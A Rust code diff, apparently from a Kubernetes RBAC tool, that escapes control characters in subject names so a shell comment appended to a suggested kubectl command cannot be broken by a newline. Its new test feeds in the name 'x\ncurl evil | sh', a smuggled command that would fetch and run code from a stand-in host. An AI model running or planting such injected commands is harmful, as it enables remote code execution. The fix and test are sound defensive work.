@@ -181,6 +181,15 @@ fn quoted(text: &str) -> String {
     format!("'{}'", text.replace('\'', r"'\''"))
 }
 
+/// What a line break would end, with each control character as its escape: behind it a comment would be a command.
+fn on_one_line(text: &str) -> String {
+    let escaped = |character: char| match character.is_control() {
+        true => character.escape_default().to_string(),
+        false => character.to_string(),
+    };
+    text.chars().map(escaped).collect()
+}
+
 /// Tokens are projected into volumes; each names its audience and life.
 fn tokens(pod: &Pod, namespace: &str, account: &str) -> Vec<Credential> {
     projected(pod)
@@ -318,7 +327,10 @@ impl Held {
                  all who are in it; give them it by other bindings first"
             ),
             None if self.others.is_empty() => command.to_owned(),
-            None => format!("{command}  # takes it from {} too", self.others.join(", ")),
+            None => format!(
+                "{command}  # takes it from {} too",
+                on_one_line(&self.others.join(", "))
+            ),
         }
     }
 }
@@ -604,6 +616,20 @@ mod tests {
             let said = held(vec![subject("Group", group, None)]).unwrap();
             assert!(said.contains(group) && !said.contains("kubectl"), "{said}");
         }
+    }
+
+    #[test]
+    fn whom_a_binding_names_ends_no_comment() {
+        let said = held(vec![
+            subject("ServiceAccount", "web", Some("shop")),
+            subject("User", "x\ncurl evil | sh", None),
+        ]);
+        let said = said.unwrap();
+        assert!(
+            said.ends_with(r"# takes it from user x\ncurl evil | sh too"),
+            "{said}"
+        );
+        assert_eq!(said.lines().count(), 1);
     }
 
     #[test]
